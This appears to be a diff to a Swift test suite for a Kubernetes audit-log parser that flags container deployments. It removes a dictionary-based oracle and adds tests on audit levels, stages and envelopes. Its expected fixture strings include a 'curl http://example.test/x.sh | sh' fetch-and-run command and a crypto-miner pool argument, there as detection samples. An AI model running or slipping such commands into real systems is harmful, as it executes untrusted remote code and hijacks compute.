@@ -50,18 +50,20 @@ struct KubernetesCorpusTests {
         // container that a webhook put into a controller's pod and not into its owner's template.
         let controller = "system:serviceaccount:kube-system:replicaset-controller"
         let runner = "workload-create success system:serviceaccount:ml:pipeline-runner ml main"
-        #expect(
-            extra.map { $0.split(separator: " ").dropFirst().joined(separator: " ") }.sorted() == [
-                "pod-create success \(controller) shop proxy registry.unknown.test/mesh/proxy:9 privileged=false "
-                    + "paths= args=--pool stratum+tcp://pool.example.test:3333",
-                "\(runner) - privileged=true paths= args=",
-                "\(runner) registry.unknown.test/tools/all:1 privileged=false paths= "
-                    + "args=sh -c curl http://example.test/x.sh | sh",
-            ]
-        )
+        let beyond = extra.map { $0.split(separator: " ").dropFirst().joined(separator: " ") }
+        let wanted: [String] = [
+            "pod-create success \(controller) shop proxy registry.unknown.test/mesh/proxy:9 privileged=false "
+                + "paths= args=--pool stratum+tcp://pool.example.test:3333",
+            "\(runner) - privileged=true paths= args=",
+            "\(runner) registry.unknown.test/tools/all:1 privileged=false paths= "
+                + "args=sh -c curl http://example.test/x.sh | sh",
+        ]
+        #expect(beyond.sorted() == wanted)
         #expect(expected.lines.count == 129)
         #expect(found.deployments.count == 146)
     }
+
+    static func lines(_ reading: Reading) -> [String] { reading.deployments.map(CorpusOracle.line).sorted() }
 
     static func difference(_ left: [String], _ right: [String]) -> [String] {
         var rest = right
@@ -71,142 +73,63 @@ struct KubernetesCorpusTests {
             return false
         }
     }
-}
 
-/// A second, plain reading of audit events, by dictionaries.
-enum CorpusOracle {
-    typealias Object = [String: Any]
-
-    static func line(_ record: ContainerDeployment) -> String {
-        let paths = record.host.mounts.map { "\($0.source.path)\($0.isReadOnly ? ":ro" : "")" }.sorted()
-        return [
-            record.event.action.rawValue, record.event.outcome.rawValue, record.actor.userName ?? "-",
-            record.placement.namespace ?? "-", record.container.name ?? "-", record.container.imageText ?? "-",
-            "privileged=\(record.security.privileged ?? false)", "paths=\(paths.joined(separator: ","))",
-            "args=\(record.process.args.joined(separator: " "))",
-        ].joined(separator: " ")
-    }
-
-    static func lines(_ event: Object) -> [String] {
-        let reference = event["objectRef"] as? Object ?? [:]
-        let resource = reference["resource"] as? String ?? ""
-        let sub = reference["subresource"] as? String ?? ""
-        let verb = event["verb"] as? String ?? ""
-        let user = (event["user"] as? Object)?["username"] as? String ?? "-"
-        let code = (event["responseStatus"] as? Object)?["code"] as? Int ?? 0
-        let namespace = reference["namespace"] as? String ?? "-"
-        func head(_ action: String) -> String { "\(action) \(code < 400 ? "success" : "failure") \(user) \(namespace)" }
-        let target = URLComponents(string: event["requestURI"] as? String ?? "")
-        let query = target?.percentEncodedQueryItems ?? []
-        func values(_ name: String) -> [String] {
-            query.filter { $0.name == name }.map {
-                ($0.value ?? "").replacing("+", with: " ").removingPercentEncoding ?? ""
-            }
-        }
-        switch (resource, sub) {
-        case ("pods", "exec"), ("pods", "attach"):
-            let name = values("container").first ?? "-"
-            return [
-                "\(head("pod-\(sub)")) \(name) - privileged=false paths= args=\(values("command").joined(separator: " "))"
-            ]
-        case ("pods", "binding"): return ["\(head("pod-bind")) - - privileged=false paths= args="]
-        case ("nodes", "proxy"):
-            guard let path = target?.path.split(separator: "/").map(String.init), path.count > 8, path[5] == "run"
-            else {
-                return []
-            }
-            let run = "pod-exec \(code < 400 ? "success" : "failure") \(user) \(path[6])"
-            return ["\(run) \(path[8]) - privileged=false paths= args=\(values("cmd").joined(separator: " "))"]
-        case ("services", "proxy"):
-            guard verb == "create", target?.path.hasSuffix("/appdeployment") == true else { return [] }
-            return ["\(head("workload-create")) - - privileged=false paths= args="]
-        case (_, ""), ("pods", "ephemeralcontainers"): break
-        default: return []
-        }
-        guard ["create", "update", "patch"].contains(verb) else { return [] }
-        let isCreate = verb == "create" || code == 201
-        let isPod = resource == "pods"
-        let action = (isPod ? "pod-" : "workload-") + (isCreate && sub == "" ? "create" : "update")
-        let workloads = [
-            "pods", "deployments", "daemonsets", "statefulsets", "replicasets", "replicationcontrollers", "jobs",
-            "cronjobs", "podtemplates",
-        ]
-        guard let request = event["requestObject"] else {
-            return workloads.contains(resource) ? ["\(head(action)) - - privileged=false paths= args="] : []
-        }
-        let isReplaced = verb == "create"
-        var object = request
-        if isReplaced, let response = event["responseObject"] as? Object {
-            // What a webhook put beside it.
-            let asked = Set(containers(request, volumes: [:]).map(\.name))
-            let given = containers(response, volumes: [:])
-            if !asked.isEmpty, given.contains(where: { !asked.contains($0.name) }) {
-                return (containers(request, volumes: [:]) + given.filter { !asked.contains($0.name) }).map {
-                    "\(head(action)) \($0.text)"
-                }
-            }
-        }
-        var names: Set<String>?
-        if !isReplaced, let response = event["responseObject"] as? Object {
-            // What a patch names, with all that it is afterwards.
-            let asked = containers(request, volumes: [:])
-            if asked.isEmpty, !"\(request)".contains("ontainers") { return [] }
-            names = Set(asked.map(\.name))
-            object = response
-        }
-        return containers(object, volumes: [:]).filter { names?.contains($0.name) ?? true }.map {
-            "\(head(action)) \($0.text)"
-        }
-    }
-
-    private struct Container {
-        var name: String
-        var text: String
-    }
-
-    private static func containers(_ value: Any, volumes: [String: Object]) -> [Container] {
-        if let list = value as? [Any] { return list.flatMap { containers($0, volumes: volumes) } }
-        guard let object = value as? Object else { return [] }
-        var volumes = volumes
-        for case let volume as Object in object["volumes"] as? [Any] ?? [] {
-            volumes[volume["name"] as? String ?? ""] = volume
-        }
-        var found: [Container] = []
-        for (key, member) in object where !["status", "metadata", "volumes"].contains(key) {
-            if ["containers", "initContainers", "ephemeralContainers", "steps", "sidecars"].contains(key),
-                let list = member as? [Object], list.allSatisfy({ $0["image"] != nil || $0["name"] != nil }),
-                key != "steps" || list.allSatisfy({ $0["image"] != nil })
-            {
-                found += list.map { container($0, volumes) }
-            } else {
-                found += containers(member, volumes: volumes)
-            }
-        }
-        if object["image"] is String, object["imagePullPolicy"] == nil || object["terminationMessagePath"] == nil {
-            found.append(container(object, volumes))
-        }
-        return found
-    }
-
-    private static func container(_ object: Object, _ volumes: [String: Object]) -> Container {
-        let name = object["name"] as? String ?? "-"
-        let paths = (object["volumeMounts"] as? [Object] ?? []).compactMap { mount -> String? in
-            guard let volume = volumes[mount["name"] as? String ?? ""],
-                let path = (volume["hostPath"] as? Object)?["path"] as? String
-            else { return nil }
-            return HostPath(path).path + (mount["readOnly"] as? Bool == true ? ":ro" : "")
-        }
-        let security = object["securityContext"] as? Object
-        let windows = (security?["windowsOptions"] as? Object)?["hostProcess"] as? Bool ?? false
-        let privileged = security?["privileged"] as? Bool ?? windows
-        let script = (object["script"] as? String).map { ["sh", "-c", $0] } ?? []
-        let args =
-            (object["command"] as? [String] ?? []) + script + (object["args"] as? [String] ?? [])
-            + [object["source"] as? String].compactMap { $0 }
-        return Container(
-            name: name,
-            text: "\(name) \(object["image"] as? String ?? "-") privileged=\(privileged) "
-                + "paths=\(paths.sorted().joined(separator: ",")) args=\(args.joined(separator: " "))"
+    @Test func `what level Metadata hides stays unknown, and controllers are still joined`() throws {
+        let found = readings(
+            of: KubernetesAuditDialect(),
+            try SharedData.lines("kubernetes/audit-metadata-level.jsonl")
         )
+        #expect(found.problems == [])
+        let controllers = found.deployments.filter { ($0.actor.userName ?? "").hasSuffix("-controller") }
+        #expect(controllers.map { "\($0.actor.userName ?? "") \($0.placement.resourceName ?? "")" } == [])
+        #expect(found.deployments.allSatisfy { $0.visibility == .auditLevelMetadata })
+        #expect(found.deployments.allSatisfy { $0.container.imageText == nil && $0.security == Security() })
+        #expect(found.deployments.count == 36)
+    }
+
+    @Test func `every stage of a request counts once`() throws {
+        let found = readings(of: KubernetesAuditDialect(), try SharedData.lines("kubernetes/audit-allstages.jsonl"))
+        let told = found.deployments.map {
+            "\($0.event.action.rawValue) \($0.event.outcome.rawValue) \($0.actor.userName ?? "-") "
+                + "\($0.http?.statusCode ?? 0) \($0.visibility.rawValue)"
+        }
+        #expect(found.problems == [])
+        #expect(
+            told == [
+                "pod-create success bob 201 full", "pod-create success bob 201 full", "pod-exec success bob 101 full",
+                "pod-create failure mallory 403 body-not-logged", "pod-create failure kubernetes-admin 403 full",
+                "pod-create failure system:anonymous 403 body-not-logged",
+                "pod-create failure - 401 body-not-logged", "pod-create failure bob 400 body-not-logged",
+            ]
+        )
+    }
+
+    @Test func `event lists hold the same deployments as their events, line by line`() throws {
+        let lists = try SharedData.objects("kubernetes/audit-eventlists.jsonl")
+        let events = try lists.flatMap { $0["items"] as? [[String: Any]] ?? [] }.map {
+            String(decoding: try JSONSerialization.data(withJSONObject: $0), as: UTF8.self)
+        }
+        let pretty = try lists.map {
+            String(
+                decoding: try JSONSerialization.data(withJSONObject: $0, options: .prettyPrinted),
+                as: UTF8.self
+            )
+        }
+        let byLine = Self.lines(readings(of: KubernetesAuditDialect(), events))
+        let byList = readings(of: KubernetesAuditDialect(), try SharedData.lines("kubernetes/audit-eventlists.jsonl"))
+        #expect(byList.problems == [])
+        #expect(Self.lines(byList) == byLine)
+        #expect(Self.lines(readings(of: KubernetesAuditDialect(), pretty)) == byLine)
+        #expect(byLine.count == 38)
+    }
+
+    @Test func `envelopes change nothing`() throws {
+        let lines = try Self.corpus().map(\.line)
+        let plain = readings(of: KubernetesAuditDialect(), lines).deployments.map(CorpusOracle.line)
+        for envelope in AuditEnvelopes.all {
+            let found = readings(of: KubernetesAuditDialect(), lines.flatMap(envelope.wrap))
+            #expect(found.problems == [], "\(envelope.name)")
+            #expect(found.deployments.map(CorpusOracle.line) == plain, "\(envelope.name)")
+        }
     }
 }
